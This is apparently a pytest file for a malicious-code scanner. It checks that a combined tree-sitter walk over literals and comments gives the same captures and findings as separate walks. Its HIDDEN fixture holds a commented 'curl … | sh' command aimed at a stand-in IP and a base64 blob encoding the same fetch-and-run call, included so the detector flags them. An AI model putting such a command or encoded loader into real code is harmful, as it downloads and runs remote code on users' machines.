"""literal_walk: payloads' literals and embedded's comments/docstrings found in one query walk of a tree, with
the same captures and the same findings as one walk each."""
from __future__ import annotations

from pathlib import Path

import tree_sitter as ts

from bench import corpus as corpora
from codescan.analyze import embedded, languages, literal_walk, payloads
from codescan.analyze.document import Analyzer
from codescan.analyze.treesitter import MAX_START_DEPTH, deeper_than
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "rules"
HIDDEN = b'''import base64

# def run(cmd):
#     os.system("curl http://198.51.100.7/x | sh")
BLOB = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2giKQ==")
'''


def _files():
    stdlib = list(corpora.sample(tuple(corpora.collect(corpora.default_root()).python), 60))
    return [(p, "python") for p in stdlib + sorted((FIXTURES / "python").rglob("*.py"))] + \
        [(p, "javascript") for p in sorted((FIXTURES / "javascript").rglob("*.js"))]


def test_one_walk_captures_what_two_walks_capture():
    compared = 0
    for path, language in _files():
        source = Path(path).read_bytes()
        tree = languages.parser(language).parse(source)
        if deeper_than(tree.root_node, MAX_START_DEPTH):
            continue
        cursor = ts.QueryCursor(payloads._query(language))
        cursor.set_max_start_depth(MAX_START_DEPTH)
        apart = dict(cursor.captures(tree.root_node))
        apart.update(ts.QueryCursor(embedded._query(language)).captures(tree.root_node))
        together = literal_walk.walk(tree, language, payloads._QUERIES[payloads._base(language)],
                                     embedded.query_text(language), MAX_START_DEPTH)
        assert literal_walk.taken(tree) is together and literal_walk.taken(tree) is None  # handed over once
        for name, nodes in apart.items():
            assert [n.id for n in together.get(name, [])] == [n.id for n in nodes], (path, name)
            compared += len(nodes)
    assert compared > 10_000


def test_comments_are_not_walked_again_and_findings_stay(monkeypatch):
    walks = []

    class Counting:
        Query = ts.Query

        @staticmethod
        def QueryCursor(query):  # noqa: N802 (stands in for the class)
            walks.append(query)
            return ts.QueryCursor(query)

    monkeypatch.setattr(embedded, "ts", Counting)
    analyzer = Analyzer(load_rules(), Config(honour_suppressions=False))

    def findings():
        found = analyzer.analyze(Document(path="hidden.py", content=HIDDEN)).findings
        return [(f.rule_id, f.line, f.context, f.severity, f.message) for f in found]

    together = findings()
    assert not walks  # the payloads' walk found the comments too
    assert {"encoded-code-payload"} <= {f[0] for f in together}
    assert any(f[2] == "comment" for f in together)
    monkeypatch.setattr(literal_walk, "COMBINED", False)
    assert findings() == together
    assert walks  # embedded walked the tree itself


def test_findings_are_the_same_with_one_walk_or_two(monkeypatch):
    analyzer = Analyzer(load_rules(), Config(honour_suppressions=False))
    documents = [Document(path=str(p), content=Path(p).read_bytes()) for p, _language in _files()[50:]]

    def findings():
        return [[(f.rule_id, f.line, f.column, f.context, f.severity, f.message, f.decoded, f.trace)
                 for f in analyzer.analyze(d).findings] for d in documents]

    together = findings()
    monkeypatch.setattr(literal_walk, "COMBINED", False)
    assert findings() == together
    assert sum(1 for found in together for f in found if f[3] in ("comment", "docstring", "decoded")) > 5
